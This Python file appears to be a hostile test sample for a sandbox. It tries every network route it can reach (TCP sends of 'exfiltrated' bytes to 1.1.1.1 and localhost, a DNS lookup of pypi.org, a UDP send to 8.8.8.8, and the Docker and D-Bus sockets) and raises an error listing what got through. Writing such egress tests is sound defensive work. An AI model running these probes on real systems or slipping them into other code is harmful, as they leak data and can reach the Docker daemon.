"""Every way out to the network this sample can think of; the outcome is raised."""

import socket

from nntrain import _hostile_tools as tools

TIMEOUT = 2.0


def tcp(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=TIMEOUT) as conn:
        conn.sendall(b"exfiltrated by the network sample\n")
    return "CONNECTED"


def dns(name: str) -> str:
    socket.setdefaulttimeout(TIMEOUT)
    found = socket.getaddrinfo(name, 443)
    return f"RESOLVED {found[0][4][0]}"


def udp(host: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"exfiltrated", (host, port))
    return "SENT"


def unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect(path)
    return "CONNECTED"


def attempts() -> dict:
    port = tools.targets()["port"]
    return {
        f"tcp 127.0.0.1:{port}": lambda: tcp("127.0.0.1", port),
        f"tcp localhost:{port}": lambda: tcp("localhost", port),
        "tcp 1.1.1.1:80": lambda: tcp("1.1.1.1", 80),
        "dns pypi.org": lambda: dns("pypi.org"),
        "udp 8.8.8.8:53": lambda: udp("8.8.8.8", 53),
        "unix /var/run/docker.sock": lambda: unix("/var/run/docker.sock"),
        "unix /run/dbus/system_bus_socket": lambda: unix("/run/dbus/system_bus_socket"),
    }


def probe() -> str:
    """One line per attempt: what happened."""
    lines = []
    for name, attempt in attempts().items():
        try:
            outcome = attempt()
        except Exception as exc:  # noqa: BLE001 - a failure is the expected outcome
            outcome = f"failed ({type(exc).__name__}: {exc})"
        lines.append(f"{name}: {outcome}")
    return "; ".join(lines)


def report_network(*args, **kwargs):
    raise RuntimeError(f"network probe: {probe()}")
